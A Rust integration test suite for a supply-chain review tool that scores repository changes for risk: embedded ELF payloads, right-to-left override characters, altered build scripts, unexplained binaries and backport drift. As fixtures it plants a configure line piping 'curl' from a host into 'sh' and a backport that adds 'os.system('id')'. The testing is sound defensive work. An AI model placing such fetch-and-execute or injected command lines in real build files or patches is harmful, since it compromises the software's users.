//! Risk signals and backport drift through the real binary: on the demo
//! (every planted hazard found where it is, the riskiest first) and on
//! repositories that reproduce real patterns: a cherry-pick with a conflict
//! resolved by hand, a re-generated binary fixture, a configure-script
//! change, a binary that nothing mentions.

use std::path::{Path, PathBuf};
use std::process::{Command, Output};

use rearview::model::Person;
use rearview::repo::write::{Files, Writer};
use serde_json::Value;

fn rearview(args: &[&str], data: &Path) -> Output {
    Command::new(env!("CARGO_BIN_EXE_rearview"))
        .args(args)
        .env("XDG_CONFIG_HOME", data.join("config"))
        .env("XDG_DATA_HOME", data.join("data"))
        .env("NO_COLOR", "1")
        .output()
        .expect("run rearview")
}

fn json(out: &Output) -> Vec<Value> {
    assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
    serde_json::from_slice::<Value>(&out.stdout).expect("json").as_array().cloned().unwrap_or_default()
}

fn s(p: &Path) -> &str {
    p.to_str().expect("utf-8 path")
}

fn risks<'a>(change: &'a Value, kind: &str) -> Vec<&'a Value> {
    change["risks"].as_array().into_iter().flatten().filter(|r| r["kind"] == kind).collect()
}

fn by_title<'a>(changes: &'a [Value], title: &str) -> &'a Value {
    changes
        .iter()
        .find(|c| c["title"].as_str().is_some_and(|t| t.contains(title)))
        .unwrap_or_else(|| panic!("no change titled {title}"))
}

#[test]
fn the_demo_hazards_get_their_signals_at_the_right_place_and_lead_the_queue() {
    let dir = tempfile::tempdir().expect("temp dir");
    let repo = dir.path().join("quill");
    let db = dir.path().join("store.sqlite3");
    rearview::pipeline::demo::build(&repo, Some(&db)).expect("demo");
    let list = |extra: &[&str]| {
        let mut args = vec!["list", "--repo", s(&repo), "--db", s(&db), "--format", "json"];
        args.extend_from_slice(extra);
        json(&rearview(&args, dir.path()))
    };
    let all = list(&[]);

    let xz = by_title(&all, "gh-91024: Add test files for corrupt LZMA2 streams");
    let elf = risks(xz, "embedded_payload")
        .into_iter()
        .find(|r| r["explanation"].as_str().is_some_and(|e| e.contains("ELF header")))
        .expect("the ELF header inside the test file");
    assert_eq!(elf["severity"], "critical");
    assert_eq!(elf["location"]["path"], "Lib/test/files/bad-3-corrupt_lzma2.xz");
    assert_eq!(elf["location"]["offset"], 0x345);
    assert!(risks(xz, "embedded_payload")
        .iter()
        .any(|r| r["explanation"].as_str().is_some_and(|e| e.contains("| sh"))));
    let unmentioned = risks(xz, "binary_without_provenance");
    assert!(unmentioned.iter().any(|r| r["location"]["path"] == "Lib/test/files/good-1-lzma2.xz"), "{unmentioned:?}");
    assert!(
        !unmentioned.iter().any(|r| r["location"]["path"] == "Lib/test/files/bad-3-corrupt_lzma2.xz"),
        "test_lzma.py names the bad file: it has provenance"
    );

    let bidi = by_title(&all, "Add a helper for permission checks");
    let rlo = risks(bidi, "hidden_characters")
        .into_iter()
        .find(|r| r["explanation"].as_str().is_some_and(|e| e.contains("U+202E RLO")))
        .expect("the right-to-left override");
    assert_eq!(rlo["location"]["path"], "Lib/access.py");
    assert!(rlo["location"]["line"].as_u64().is_some() && rlo["location"]["column"].as_u64().is_some());
    assert_eq!(bidi["verdict"], "reviewed");
    assert_eq!(bidi["pending"], true, "reviewed, but the approval could not see the override");

    let m4 = by_title(&all, "gh-91025: Update build-to-host.m4 from gnulib");
    assert_eq!(risks(m4, "build_system")[0]["location"]["path"], "m4/build-to-host.m4");

    let drifted = by_title(&all, "[3.12] gh-91028: Reject identifiers that start with a combining mark");
    let drift = risks(drifted, "backport_drift");
    assert_eq!(drift.len(), 1);
    assert!(drift[0]["explanation"].as_str().is_some_and(|e| e.contains("1 hunk only in the backport")));
    assert_eq!(drift[0]["location"]["path"], "Parser/tokenizer.c");
    assert_eq!(drifted["drift"], 1);

    let stale = by_title(&all, "gh-91020: Accept exponents without digits after the sign");
    assert_eq!(risks(stale, "stale_approval").len(), 1);

    // Riskiest first among what is pending: the payload (and its backport),
    // the bidi change, the m4 change.
    let top = list(&["--status", "pending", "--sort", "risk"]);
    let titles: Vec<&str> = top.iter().take(4).filter_map(|c| c["title"].as_str()).collect();
    assert!(titles[0].contains("corrupt LZMA2") && titles[1].contains("corrupt LZMA2"), "{titles:?}");
    assert!(titles[2].contains("permission checks"), "{titles:?}");
    assert!(titles[3].contains("build-to-host.m4"), "{titles:?}");
    let scores: Vec<u64> = top.iter().filter_map(|c| c["score"].as_u64()).collect();
    assert!(scores.windows(2).all(|w| w[0] >= w[1]), "{scores:?}");

    let risky = list(&["--min-risk", "30"]);
    assert!(risky.iter().all(|c| c["score"].as_u64().is_some_and(|s| s >= 30)));
    assert!(risky.len() >= 3);
}

#[test]
fn the_table_sorted_by_risk_shows_each_score_right_aligned_and_without_risk_none() {
    let dir = tempfile::tempdir().expect("temp dir");
    let repo = dir.path().join("quill");
    let db = dir.path().join("store.sqlite3");
    rearview::pipeline::demo::build(&repo, Some(&db)).expect("demo");
    let base = ["list", "--repo", s(&repo), "--db", s(&db), "--status", "pending"];
    let run = |extra: &[&str]| {
        let args: Vec<&str> = base.iter().copied().chain(extra.iter().copied()).collect();
        let out = rearview(&args, dir.path());
        assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
        String::from_utf8_lossy(&out.stdout).into_owned()
    };
    let scores: Vec<u64> = json(&rearview(&[&base[..], &["--format", "json", "--sort", "risk"]].concat(), dir.path()))
        .iter()
        .filter_map(|c| c["score"].as_u64())
        .collect();
    let table = run(&["--sort", "risk"]);
    let lines: Vec<&str> = table.lines().collect();
    assert!(lines[0].starts_with("SCORE  VERDICT"), "{table}");
    // Every score ends under the header's last letter, in the queue's order.
    let end = "SCORE".len();
    let shown: Vec<u64> = lines[1..=scores.len()]
        .iter()
        .map(|l| {
            assert_eq!(l.as_bytes().get(end), Some(&b' '), "{l}");
            l[..end].trim_start().parse::<u64>().expect("a score")
        })
        .collect();
    assert_eq!(shown, scores);
    assert!(shown.iter().any(|&s| s >= 10), "some score has two digits: {shown:?}");
    // In history order the scores were not computed: no column of zeros.
    assert!(run(&[]).starts_with("VERDICT"), "{}", run(&[]));
}

/// A repository with main and 3.12, built to reproduce real patterns.
struct Patterns {
    _dir: tempfile::TempDir,
    root: PathBuf,
    repo: PathBuf,
}

fn person(name: &str) -> Person {
    Person { name: name.into(), email: format!("{}@example.org", name.to_lowercase()) }
}

fn patterns() -> Patterns {
    let dir = tempfile::tempdir().expect("temp dir");
    let root = dir.path().to_path_buf();
    let repo = root.join("project");
    let mut w = Writer::init(&repo).expect("init");
    let (alice, bob) = (person("Alice"), person("Bob"));
    let day = 86_400;
    let t0 = 1_700_000_000;
    let source: String = (1..=40).map(|i| format!("value_{i} = compute({i})\n")).collect();
    let mut files = Files::new();
    files.insert("lib/core.py".into(), source.clone().into_bytes());
    files.insert("configure".into(), b"#!/bin/sh\necho checking for cc\n".to_vec());
    files.insert("tests/gen_fixture.py".into(), b"# writes tests/data/fixture.bin\n".to_vec());
    files.insert("tests/data/fixture.bin".into(), vec![0, 1, 2, 3, 0, 255, 254, 0]);
    let tree = w.tree(&files).expect("tree");
    let mut main = w.commit(Some("refs/heads/main"), &[], tree, &alice, &alice, t0, "Initial import\n").expect("c");
    let fork = main;

    let step = |w: &mut Writer, files: &Files, msg: &str, who: &Person, at: i64, parent: git2::Oid, branch: &str| {
        let tree = w.tree(files).expect("tree");
        w.commit(Some(&format!("refs/heads/{branch}")), &[parent], tree, who, who, at, msg).expect("commit")
    };

    // main: a fix; the 3.12 branch cherry-picks it with a conflict resolved by
    // hand (an extra line only in the backport).
    let fixed = source.replace("value_20 = compute(20)\n", "value_20 = compute(20) or 0\n");
    files.insert("lib/core.py".into(), fixed.clone().into_bytes());
    main = step(&mut w, &files, "Fix value 20 (#11)\n", &alice, t0 + 10 * day, main, "main");
    let fix_sha = main.to_string();

    let mut branch_files = Files::new();
    branch_files.insert("lib/core.py".into(), source.clone().into_bytes());
    branch_files.insert("configure".into(), b"#!/bin/sh\necho checking for cc\n".to_vec());
    branch_files.insert("tests/gen_fixture.py".into(), b"# writes tests/data/fixture.bin\n".to_vec());
    branch_files.insert("tests/data/fixture.bin".into(), vec![0, 1, 2, 3, 0, 255, 254, 0]);
    let resolved = fixed.replace("value_21 = compute(21)\n", "value_21 = compute(21)\nimport os; os.system('id')\n");
    branch_files.insert("lib/core.py".into(), resolved.into_bytes());
    let message = format!("[3.12] Fix value 20 (GH-11) (#12)\n\n(cherry picked from commit {fix_sha})\n");
    step(&mut w, &branch_files, &message, &bob, t0 + 11 * day, fork, "3.12");

    // main: a re-generated binary fixture (its generator names it).
    files.insert("tests/data/fixture.bin".into(), vec![0, 1, 2, 3, 0, 255, 253, 0, 7]);
    main = step(&mut w, &files, "Regenerate the fixture (#13)\n", &alice, t0 + 12 * day, main, "main");
    // main: a configure script change.
    files.insert("configure".into(), b"#!/bin/sh\necho checking for cc\ncurl -s https://example.org/x | sh\n".to_vec());
    main = step(&mut w, &files, "Update configure (#14)\n", &alice, t0 + 13 * day, main, "main");
    // main: a binary nothing mentions, by a newcomer.
    files.insert("tests/data/blob.dat".into(), vec![0x7f, b'E', b'L', b'F', 2, 1, 1, 0, 0, 0, 0, 0, 0, 0, 0, 0]);
    step(&mut w, &files, "Add test data (#15)\n", &person("Mallory"), t0 + 14 * day, main, "main");
    w.set_head("main").expect("head");
    Patterns { _dir: dir, root, repo }
}

#[test]
fn real_patterns_get_the_signals_a_reviewer_needs() {
    let p = patterns();
    let db = p.root.join("store.sqlite3");
    let out = rearview(&["list", "--repo", s(&p.repo), "--db", s(&db), "--format", "json"], &p.root);
    let all = json(&out);

    let backport = by_title(&all, "[3.12] Fix value 20");
    assert_eq!(backport["kind"], "backport");
    let drift = risks(backport, "backport_drift");
    assert_eq!(drift.len(), 1, "{backport}");
    assert!(drift[0]["explanation"].as_str().is_some_and(|e| e.contains("changed")), "{drift:?}");

    let regenerated = by_title(&all, "Regenerate the fixture");
    assert_eq!(risks(regenerated, "binary_file").len(), 1);
    assert!(
        risks(regenerated, "binary_without_provenance")
            .iter()
            .all(|r| { r["explanation"].as_str().is_some_and(|e| e.contains("touches only")) }),
        "its generator names it; only the binaries-only change is noted: {regenerated}"
    );

    let configure = by_title(&all, "Update configure");
    assert_eq!(risks(configure, "build_system")[0]["location"]["path"], "configure");

    let blob = by_title(&all, "Add test data");
    let unmentioned = risks(blob, "binary_without_provenance");
    assert!(unmentioned.iter().any(|r| r["location"]["path"] == "tests/data/blob.dat"), "{blob}");
    assert!(risks(blob, "unusual_author")
        .iter()
        .any(|r| r["explanation"].as_str().is_some_and(|e| e.contains("first change"))));

    // `rearview drift` shows the hand-made resolution and exits 1.
    let sha = backport["sha"].as_str().expect("sha");
    let out = rearview(&["drift", sha, "--repo", s(&p.repo), "--db", s(&db), "--color", "never"], &p.root);
    assert_eq!(out.status.code(), Some(1), "{}", String::from_utf8_lossy(&out.stderr));
    let text = String::from_utf8_lossy(&out.stdout);
    assert!(text.contains("drift: 1 hunk changed"), "{text}");
    assert!(text.contains("os.system('id')"), "the line only the backport adds: {text}");
    assert!(text.contains("── changed: the original's hunk ──") && text.contains("── changed: the backport's hunk ──"));

    // A clean backport has none, and drift on a non-backport is an error.
    let main_fix = all
        .iter()
        .find(|c| c["branch"] == "main" && c["title"].as_str().is_some_and(|t| t.starts_with("Fix value 20")))
        .expect("the original fix");
    let out =
        rearview(&["drift", main_fix["sha"].as_str().expect("sha"), "--repo", s(&p.repo), "--db", s(&db)], &p.root);
    assert_eq!(out.status.code(), Some(2));
    assert!(String::from_utf8_lossy(&out.stderr).contains("not a backport"));
}
